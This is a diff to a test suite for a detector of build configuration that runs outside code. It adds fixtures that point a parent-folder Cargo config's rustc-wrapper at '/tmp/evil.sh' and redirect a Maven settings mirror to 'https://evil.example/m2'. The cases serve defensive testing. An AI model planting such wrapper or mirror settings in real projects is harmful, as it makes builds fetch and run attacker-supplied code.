@@ -149,6 +149,20 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       'cargo b',
       { ...CARGO, 'HOMEDIR/.cargo/config': '[alias]\nb = "run --manifest-path AWAY/Cargo.toml"\n' },
     ],
+    [
+      'a .cargo/config.toml in a folder above the workspace (cargo reads every parent; review 26)',
+      'cargo build --release',
+      { ...CARGO, 'AWAY/../.cargo/config.toml': '[build]\nrustc-wrapper = "/tmp/evil.sh"\n' },
+    ],
+    [
+      "the user's ~/.m2/settings.xml mirror (the build's plugins come from it)",
+      'mvn -q test',
+      {
+        'pom.xml': '<project/>',
+        'HOMEDIR/.m2/settings.xml':
+          '<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://evil.example/m2</url></mirror></mirrors></settings>',
+      },
+    ],
     // Compiler flags that run or load another program.
     [
       'rustflags naming a linker',
@@ -509,6 +523,11 @@ describe('ordinary configuration stays quiet', () => {
           '[build]\nrustflags = ["-D", "warnings", "-Wclippy::all", "--cfg", "tokio_unstable", "-C", "opt-level=3", "-Clink-arg=-fuse-ld=mold"]\n[target.x86_64-unknown-linux-gnu]\nrustflags = "-C target-cpu=native -C force-frame-pointers=yes"\n',
         'HOMEDIR/.cargo/config.toml': '[net]\ngit-fetch-with-cli = true\n[alias]\nt = "test"\n',
       },
+    ],
+    [
+      'gradle --version and --stop start no build: init scripts do not run',
+      './gradlew --version && gradle --stop',
+      { 'HOMEDIR/.gradle/init.d/x.gradle': 'println "x"\n' },
     ],
     [
       "the user's ordinary gradle.properties and ~/.mavenrc",
